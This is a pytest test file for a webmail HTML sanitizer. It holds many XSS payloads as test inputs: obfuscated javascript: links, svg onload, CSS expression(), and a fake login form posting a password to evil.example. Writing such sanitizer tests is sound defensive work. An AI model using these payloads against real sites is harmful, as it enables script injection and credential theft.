"""Hostile HTML in a message is neutralised before the reading page shows it."""

from __future__ import annotations

import re

import pytest

from convergence.mail.sanitize import CleanedHtml, clean_html, html_to_text, registrable_domain

INLINE_PARTS = {"logo@lycee-pasteur": "/messagerie/1/42/parties/1.2/"}


def clean(html: str, *, allow_remote: bool = False) -> CleanedHtml:
    return clean_html(html, allow_remote=allow_remote, cid_url=INLINE_PARTS.get)


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def test_script_is_removed_with_its_content() -> None:
    result = clean("<p>Bonjour</p><script>document.location='https://x.example'</script>")

    assert result.html == "<p>Bonjour</p>"


def test_svg_with_onload_is_removed_with_its_content() -> None:
    result = clean('<p>Avant</p><svg onload="alert(1)"><text>dans le svg</text></svg>')

    assert "svg" not in result.html
    assert "onload" not in result.html
    assert "dans le svg" not in result.html


def test_math_is_removed() -> None:
    result = clean('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>fin')

    assert result.html == "fin"


def test_event_handlers_are_dropped_from_images() -> None:
    result = clean('<img src="x" onerror="alert(1)" alt="photo">')

    assert "onerror" not in result.html
    assert "alert" not in result.html
    assert 'alt="photo"' in result.html


@pytest.mark.parametrize(
    "style",
    [
        "width: expression(alert(1))",
        "behavior: url(script.htc)",
        "background: url(javascript:alert(1))",
        "background-image: url(https://tracker.example/open.gif)",
    ],
)
def test_style_attributes_are_dropped(style: str) -> None:
    result = clean(f'<p style="{style}">Texte</p>')

    assert result.html == "<p>Texte</p>"


def test_style_elements_are_removed_with_their_content() -> None:
    result = clean(
        "<style>body { background: url(javascript:alert(1)); behavior: url(x.htc) }</style>"
        "<p>Texte</p>"
    )

    assert result.html == "<p>Texte</p>"


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "jav&#x61;script:alert(1)",
        "&#106;avascript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "/messagerie/supprimer-tout/",
        "//evil.example/",
    ],
)
def test_dangerous_or_relative_link_targets_are_dropped(href: str) -> None:
    result = clean(f'<a href="{href}">Cliquez ici</a>')

    assert hrefs(result.html) == []
    assert "Cliquez ici" in result.html
    assert "script" not in result.html.lower()


def test_data_image_sources_are_dropped() -> None:
    result = clean('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">')

    assert "src" not in result.html


def test_form_posting_elsewhere_is_removed_with_its_fields() -> None:
    result = clean(
        '<p>Votre session expire.</p><form action="https://evil.example/collect" method="post">'
        '<input type="password" name="motdepasse"><button>Valider</button></form>'
    )

    assert result.html == "<p>Votre session expire.</p>"


def test_iframe_object_and_embed_are_removed() -> None:
    result = clean(
        '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>'
        '<embed src="x.swf"><p>reste</p>'
    )

    assert result.html == "<p>reste</p>"


def test_base_meta_and_link_elements_are_removed() -> None:
    result = clean(
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://'
        'evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'
        '<a href="page.html">relatif</a>'
    )

    assert "base" not in result.html
    assert "meta" not in result.html
    assert "evil" not in result.html
    assert hrefs(result.html) == []


def test_tracking_pixel_is_blocked_and_counted() -> None:
    result = clean(
        '<p>Lettre</p><img src="https://tracker.example/o.gif?id=sbernard" width="1" height="1">'
    )

    assert "tracker" not in result.html
    assert result.blocked_remote == 1


def test_remote_images_are_blocked_and_counted() -> None:
    result = clean(
        '<img src="https://cdn.example/a.png" alt="Affiche">'
        '<img src="HTTP://cdn.example/b.png"><img src="https://cdn.example/c.png">'
    )

    assert result.blocked_remote == 3
    assert "cdn.example" not in result.html
    assert 'alt="Affiche"' in result.html


def test_remote_images_are_kept_when_allowed() -> None:
    result = clean('<img src="https://cdn.example/a.png" alt="Affiche">', allow_remote=True)

    assert 'src="https://cdn.example/a.png"' in result.html
    assert result.blocked_remote == 0


def test_cid_image_points_to_the_portal_url_of_its_part() -> None:
    result = clean('<img src="cid:logo@lycee-pasteur" alt="Logo">')

    assert 'src="/messagerie/1/42/parties/1.2/"' in result.html
    assert result.blocked_remote == 0


def test_cid_image_without_such_part_loses_its_source() -> None:
    result = clean('<img src="cid:inconnu@nulle-part" alt="Logo">')

    assert "src" not in result.html
    assert 'alt="Logo"' in result.html


def test_links_open_apart_without_referrer_and_show_their_target() -> None:
    result = clean('<a href="https://www.ac-besancon.fr/" title="autre">le rectorat</a>')

    assert result.html == (
        '<a href="https://www.ac-besancon.fr/" title="https://www.ac-besancon.fr/" '
        'target="_blank" rel="noopener noreferrer nofollow">le rectorat</a>'
    )


def test_phishing_link_shows_its_real_domain() -> None:
    result = clean(
        '<a href="https://ac-besancon.fr.secure-login.info/connexion">'
        "https://messagerie.ac-besancon.fr</a>"
    )

    assert "[domaine réel : secure-login.info]" in result.html
    assert 'title="https://ac-besancon.fr.secure-login.info/connexion"' in result.html


def test_link_whose_text_names_the_same_domain_gets_no_hint() -> None:
    result = clean('<a href="https://www.ac-besancon.fr/actu">messagerie.ac-besancon.fr</a>')

    assert "domaine réel" not in result.html


def test_mailto_link_to_another_address_domain_shows_it() -> None:
    result = clean('<a href="mailto:support@evil.example">dsi@ac-besancon.fr</a>')

    assert "[domaine réel : evil.example]" in result.html


def test_forged_hint_from_the_sender_is_stripped_of_its_class() -> None:
    result = clean('<span class="mail-real-domain">[domaine réel : ac-besancon.fr]</span>')

    assert "class" not in result.html


def test_rewriting_cannot_reintroduce_markup() -> None:
    result = clean(
        '<a href="https://evil.example/?q=&quot;&gt;&lt;script&gt;x">'
        "&lt;script&gt;alert(1)&lt;/script&gt; https://www.ac-besancon.fr</a>"
        "<p>&lt;img src=x onerror=alert(1)&gt;</p>"
    )

    assert "<script" not in result.html
    assert "<img" not in result.html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.html


def test_table_layouts_keep_their_structure() -> None:
    result = clean(
        '<table width="600" cellpadding="0"><tr><td colspan="2" align="center">Ordre du jour'
        "</td></tr></table>"
    )

    assert result.html == (
        '<table width="600" cellpadding="0"><tbody><tr><td colspan="2" align="center">'
        "Ordre du jour</td></tr></tbody></table>"
    )


def test_comments_are_removed() -> None:
    result = clean("<p>a</p><!--[if mso]><script>alert(1)</script><![endif]-->")

    assert result.html == "<p>a</p>"


@pytest.mark.parametrize(
    ("host", "domain"),
    [
        ("ac-besancon.fr.secure-login.info", "secure-login.info"),
        ("messagerie.ac-besancon.fr", "ac-besancon.fr"),
        ("www.service-public.gouv.fr", "service-public.gouv.fr"),
        ("mail.example.co.uk", "example.co.uk"),
        ("192.0.2.7", "192.0.2.7"),
    ],
)
def test_registrable_domain(host: str, domain: str) -> None:
    assert registrable_domain(host) == domain


def test_html_to_text_keeps_lines_and_drops_hidden_content() -> None:
    text = html_to_text(
        "<style>p{}</style><p>Bonjour&nbsp;Mme&#32;Bernard,</p><p>La réunion<br>est "
        "<b>jeudi</b>.</p><script>x()</script>"
    )

    assert text == "Bonjour Mme Bernard,\n\nLa réunion\nest jeudi."


@pytest.mark.parametrize(
    "source",
    [
        " http://traceur.example/p.gif",
        "ht&#9;tp://traceur.example/p.gif",
        "&#10;https://traceur.example/p.gif",
        "HTTPS://TRACEUR.EXAMPLE/P.GIF",
    ],
)
def test_a_remote_image_disguised_by_spaces_or_controls_is_still_blocked(source: str) -> None:
    cleaned = clean_html(
        f'<img src="{source}" alt="x">', allow_remote=False, cid_url=lambda c: None
    )
    assert "traceur" not in cleaned.html.lower()
    assert cleaned.blocked_remote == 1


def test_a_messages_headings_go_below_the_pages() -> None:
    cleaned = clean_html(
        "<h1>Lettre</h1><h2>Édito</h2><h5>x</h5>", allow_remote=False, cid_url=lambda c: None
    )
    assert "<h1" not in cleaned.html and "<h2" not in cleaned.html
    assert "<h3>Lettre</h3>" in cleaned.html and "<h4>Édito</h4>" in cleaned.html
